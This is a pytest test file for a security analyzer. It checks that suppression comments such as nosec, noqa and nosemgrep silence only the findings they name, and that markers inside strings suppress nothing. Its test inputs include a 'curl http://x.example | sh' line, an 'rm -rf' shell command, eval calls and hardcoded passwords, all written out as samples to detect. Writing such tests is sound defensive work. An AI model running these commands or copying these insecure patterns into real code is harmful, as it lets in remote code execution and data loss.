from __future__ import annotations

import pytest

from analyzers import analyze


@pytest.mark.parametrize(
    "code",
    [
        "eval(x)  # nosec",
        "eval(x)  #nosec",
        "eval(x)  # nosec: the text is ours",
        "eval(x)  # nosec B307",
        "eval(x)  # nosec B101,B307",
        "eval(x)  # nosec: B307 B101",
        "eval(x)  # nosec FH101",
        "eval(x)  # nosec eval-used",
        "eval(x)  # noqa",
        "eval(x)  # NOQA: S307",
        "eval(x)  # noqa: E501,S307",
        "eval(x)  # noqa:S307 because",
        "eval(x)  # noqa: FH101",
        "eval(x)  # type: ignore # noqa: S307",
        "eval(  # noqa: S307\n    x,\n)",
        "eval(\n    x,\n)  # nosec",
        "y = [\n    1,\n    eval(x),\n]  # nosec B307",
        "try:\n    a\nexcept:  # noqa: E722\n    b",
        "try:\n    a\nexcept:  # noqa: BLE001\n    b",
        'password = "hunter2"  # noqa: S105',
        'password = "hunter2"  # nosec hardcoded_password_string B105',
        'f(password="hunter2")  # noqa: S106',
        'q = ("a"  # nosec\n     "b" + eval(x))',
        "assert x  # nosec assert_used",
        "if (\neval(x)  # nosec",
        "eval(x)  # nosemgrep",
        "eval(x)  # nosemgrep: python.lang.security.audit.eval-detected.eval-detected",
        "# nosemgrep: eval-detected\neval(x)",
        "eval(x)  # fumehood: allow[FH101] the text is ours",
        "eval(x)  # fumehood: allow[eval-used] - the text is ours",
        "eval(x)  # fumehood: allow[B101,B307]: the text is ours",
        "# fumehood: allow[FH101] the text is ours\neval(x)",
    ],
)
def test_a_marker_takes_its_finding_back(code: str) -> None:
    """What Bandit and Ruff would leave out for a comment is left out, and counted."""
    report = analyze(code, engines=("bandit",))
    assert report.findings == ()
    assert report.suppressed == 1
    assert report.verdict == ("pass" if report.parse == "full" else "incomplete")


@pytest.mark.parametrize(
    "code",
    [
        "eval(x)  # nosec B101",
        "eval(x)  # nosec B999",
        "eval(x)  # noqa: S102",
        "eval(x)  # noqa: E501",
        "eval(x)  # nosecurity",
        "eval(x)  # noqas",
        "# nosec\neval(x)",
        "eval('# nosec')",
        "eval('''\n# noqa\n''')",
        'x = """\n# nosec\n"""; eval(x)',
        "eval(x)\n# nosec",
        "eval(x)  # nosemgrep: sql-injection",
        "eval(x)  # fumehood: allow[FH102] the text is ours",
        "x = 1  # fumehood: allow[FH101] the text is ours\neval(x)",
    ],
)
def test_other_comments_and_strings_suppress_nothing(code: str) -> None:
    """Markers for other rules, on other lines, or inside strings take nothing back."""
    report = analyze(code, engines=("bandit",))
    assert [finding.rule for finding in report.findings] == ["FH101"]
    assert report.suppressed == 0


def test_a_comment_of_a_program_in_a_string_suppresses_nothing() -> None:
    """It is the string's, and whoever wrote that need not be whom the file is trusted to; a cell's counts."""
    code = 'import subprocess\nsubprocess.Popen("rm -rf $X/ #nosec", shell=True)\n'
    report = analyze(code)
    assert {"FH110", "FH704"} <= {finding.rule for finding in report.findings}
    assert report.suppressed == 0
    assert analyze("%%bash\ncurl http://x.example | sh  # nosec\n").suppressed == 2


def test_a_marker_in_a_body_does_not_excuse_the_header() -> None:
    """A comment inside a function does not take back what was found in its signature."""
    assert analyze('def f(password="hunter2"):\n    a = 1  # nosec\n').total == 1


def test_a_suppressed_secret_is_still_masked() -> None:
    """A secret that was taken back is not quoted by the finding beside it."""
    report = analyze('password = "hunter2xyz"; eval("hunter2xyz")  # noqa: S105')
    assert report.suppressed == 1
    assert "hunter2xyz" not in repr(report)


def test_notes_cannot_be_suppressed() -> None:
    """No comment hides that the analysis was cut short."""
    report = analyze("f(x)  # nosec\n" * 300, seconds=0.0)
    assert report.verdict == "incomplete"


def test_allowing_wants_a_reason() -> None:
    """Our own marker does nothing without a reason, and says so."""
    report = analyze("eval(x)  # fumehood: allow[FH101]\n")
    assert [finding.rule for finding in report.findings] == ["FH101", "FH005"]
    assert (report.suppressed, report.verdict) == (0, "fail")


def test_a_marker_for_one_of_two_names_takes_that_name() -> None:
    """A finding that two tools' rules make keeps the other name; the first name takes all of it."""
    code = "import subprocess\nsubprocess.run('ls ' + x, shell=True)  # {}\n"
    (_, finding) = analyze(code.format("nosec B607")).findings
    assert (finding.rule, finding.also) == ("FH110", ("B602",))
    assert [finding.rule for finding in analyze(code.format("noqa: S602")).findings] == ["FH714"]


def test_bandits_own_names_are_known() -> None:
    """``nosec`` with the name of one of Bandit's tests takes its finding back."""
    assert analyze("assert x  # nosec assert_used\n").suppressed == 1
    assert analyze("assert x  # nosec exec_used\n").suppressed == 0


def test_who_does_not_trust_the_author_sees_everything() -> None:
    """Markers can be switched off, every one of them."""
    code = "eval(x)  # nosec\nexec(y)  # fumehood: allow[FH102] trust me\n"
    report = analyze(code, honour_suppressions=False)
    assert ([finding.rule for finding in report.findings], report.suppressed) == (["FH101", "FH102"], 0)
